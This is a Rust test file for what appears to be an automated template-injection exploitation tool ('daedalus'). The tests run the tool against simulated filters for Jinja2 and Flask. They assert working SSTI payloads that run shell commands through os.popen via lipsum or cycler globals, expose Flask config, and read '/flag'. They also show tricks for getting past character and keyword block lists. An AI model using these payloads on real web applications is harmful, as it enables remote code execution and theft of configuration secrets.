//! End-to-end engagements against simulated filters

mod common;

use common::{session, session_with, settings, SimulatedTarget};
use daedalus::engine::{AttackOutcome, Exploiter};
use daedalus::models::TemplateEnvironment;
use daedalus::oracle::retry::FakeClock;
use daedalus::resolver::{CallTarget, Capability, ObjectTarget};
use daedalus::synth::catalog::ConstructId;
use daedalus::synth::SearchBudget;
use std::sync::Arc;

fn shell(cmd: &str) -> Capability {
    Capability::Call(CallTarget::ShellCommand(cmd.to_string()))
}

#[tokio::test]
async fn test_config_through_template_context() {
    let target = SimulatedTarget::new();
    target.block_chars("()");
    target.block_words(&["config"]);
    let session = session(&target, TemplateEnvironment::Flask);

    let outcome = Exploiter::new(&session)
        .exploit(&Capability::Object(ObjectTarget::Config))
        .await;

    match outcome {
        AttackOutcome::Confirmed {
            payload,
            route,
            expression,
            confirmations,
        } => {
            assert_eq!(
                payload,
                "{{self.__dict__._TemplateReference__context['con''fig']}}"
            );
            assert_eq!(route, "template context");
            assert!(expression.uses(ConstructId::TokenAdjacent));
            assert_eq!(confirmations, 1);
        }
        other => panic!("Expected a confirmed payload, got {other:?}"),
    }
}

#[tokio::test]
async fn test_all_entry_globals_blocked_is_infeasible() {
    let target = SimulatedTarget::new();
    target.block_words(&["lipsum", "cycler", "joiner", "namespace"]);
    let session = session(&target, TemplateEnvironment::Jinja2);

    let outcome = Exploiter::new(&session).exploit(&shell("id")).await;

    match outcome {
        AttackOutcome::Infeasible { routes } => {
            assert_eq!(routes.len(), 8);
            assert!(routes[0].dead_ends.contains(&"lipsum".to_string()));
        }
        other => panic!("Expected infeasible, got {other:?}"),
    }
    assert!(target.confirmations().is_empty());
}

#[tokio::test]
async fn test_literal_character_from_object_repr() {
    let target = SimulatedTarget::new();
    target.block_chars("eE%");
    let session = session(&target, TemplateEnvironment::Jinja2);

    let outcome = Exploiter::new(&session)
        .exploit(&Capability::Literal("e".to_string()))
        .await;

    assert_eq!(outcome.payload(), Some("{{(lipsum|string)[11]}}"));
}

#[tokio::test]
async fn test_rejected_confirmation_switches_route() {
    let target = SimulatedTarget::new();
    target.block_combo(&["lipsum", "popen"]);
    let session = session(&target, TemplateEnvironment::Jinja2);

    let outcome = Exploiter::new(&session).exploit(&shell("id")).await;

    match outcome {
        AttackOutcome::Confirmed {
            payload,
            route,
            confirmations,
            ..
        } => {
            assert_eq!(payload, "{{cycler.__init__.__globals__.os.popen('id').read()}}");
            assert_eq!(route, "cycler os");
            assert_eq!(confirmations, 2);
        }
        other => panic!("Expected a confirmed payload, got {other:?}"),
    }
    assert_eq!(
        target.confirmations(),
        vec![
            "{{lipsum.__globals__.os.popen('id').read()}}".to_string(),
            "{{cycler.__init__.__globals__.os.popen('id').read()}}".to_string(),
        ]
    );
}

#[tokio::test]
async fn test_render_failures_leave_payload_unconfirmed() {
    let target = SimulatedTarget::new();
    target.never_render();
    let session = session(&target, TemplateEnvironment::Jinja2);

    let outcome = Exploiter::new(&session).exploit(&shell("id")).await;

    match outcome {
        AttackOutcome::Unconfirmed { attempts } => {
            assert_eq!(attempts.len(), 2);
            assert_eq!(attempts[0], "{{lipsum.__globals__.os.popen('id').read()}}");
        }
        other => panic!("Expected unconfirmed, got {other:?}"),
    }
    assert_eq!(target.confirmations().len(), 2);
}

#[tokio::test]
async fn test_blocked_braces_mean_no_delimiter() {
    let target = SimulatedTarget::new();
    target.block_chars("{");
    let session = session(&target, TemplateEnvironment::Jinja2);

    let outcome = Exploiter::new(&session).exploit(&shell("id")).await;

    assert_eq!(outcome, AttackOutcome::NoDelimiter);
}

#[tokio::test]
async fn test_print_statement_delimiter_is_used() {
    let target = SimulatedTarget::new();
    target.block_words(&["{{"]);
    let session = session(&target, TemplateEnvironment::Jinja2);

    let outcome = Exploiter::new(&session)
        .exploit(&Capability::Object(ObjectTarget::OsModule))
        .await;

    assert_eq!(outcome.payload(), Some("{%print(lipsum.__globals__.os)%}"));
}

#[tokio::test]
async fn test_tiny_budget_is_reported() {
    let target = SimulatedTarget::new();
    let mut settings = settings(TemplateEnvironment::Jinja2);
    settings.budget = SearchBudget {
        max_depth: 40,
        max_nodes: 2,
    };
    let session = session_with(&target, Arc::new(FakeClock::new()), settings);

    let outcome = Exploiter::new(&session).exploit(&shell("id")).await;

    match outcome {
        AttackOutcome::BudgetExceeded { report } => assert!(!report.depth_limited),
        other => panic!("Expected budget exhaustion, got {other:?}"),
    }
}

#[tokio::test]
async fn test_config_is_unreachable_in_plain_jinja() {
    let target = SimulatedTarget::new();
    let session = session(&target, TemplateEnvironment::Jinja2);

    let outcome = Exploiter::new(&session)
        .exploit(&Capability::Object(ObjectTarget::Config))
        .await;

    assert_eq!(outcome, AttackOutcome::Infeasible { routes: Vec::new() });
    assert_eq!(target.requests(), 0);
}

#[tokio::test]
async fn test_echoed_payload_is_not_confirmed() {
    let target = SimulatedTarget::new();
    target.echo_only();
    let session = session(&target, TemplateEnvironment::Jinja2);

    let outcome = Exploiter::new(&session).exploit(&shell("id")).await;

    match outcome {
        AttackOutcome::Unconfirmed { attempts } => {
            assert_eq!(attempts.len(), 2);
            assert_eq!(attempts[0], "{{lipsum.__globals__.os.popen('id').read()}}");
        }
        other => panic!("Expected unconfirmed, got {other:?}"),
    }
}

#[tokio::test]
async fn test_echoed_literal_is_not_confirmed() {
    let target = SimulatedTarget::new();
    target.echo_only();
    let session = session(&target, TemplateEnvironment::Jinja2);

    let outcome = Exploiter::new(&session)
        .exploit(&Capability::Literal("abc".to_string()))
        .await;

    assert!(
        matches!(outcome, AttackOutcome::Unconfirmed { ref attempts } if attempts.len() == 2),
        "{outcome:?}"
    );
}

#[tokio::test]
async fn test_unwritable_argument_travels_in_side_parameter() {
    let target = SimulatedTarget::new();
    target.block_chars("/%");
    let mut settings = settings(TemplateEnvironment::Flask);
    settings.arg_param = Some("arg".to_string());
    let session = session_with(&target, Arc::new(FakeClock::new()), settings);

    let outcome = Exploiter::new(&session).exploit(&shell("cat /flag")).await;

    match outcome {
        AttackOutcome::Confirmed {
            payload,
            route,
            confirmations,
            ..
        } => {
            assert_eq!(
                payload,
                "{{lipsum.__globals__.os.popen(request.values.arg).read()}}"
            );
            assert_eq!(route, "lipsum os with arg param");
            assert_eq!(confirmations, 1);
        }
        other => panic!("Expected a confirmed payload, got {other:?}"),
    }
    assert_eq!(
        target.extra_params(),
        vec![("arg".to_string(), "cat /flag".to_string())]
    );
}

#[tokio::test]
async fn test_side_parameter_is_unused_without_flask() {
    let target = SimulatedTarget::new();
    target.block_chars("/%");
    let mut settings = settings(TemplateEnvironment::Jinja2);
    settings.arg_param = Some("arg".to_string());
    let session = session_with(&target, Arc::new(FakeClock::new()), settings);

    let outcome = Exploiter::new(&session).exploit(&shell("cat /flag")).await;

    assert!(outcome.payload().is_none(), "{outcome:?}");
    assert!(target.extra_params().is_empty());
}
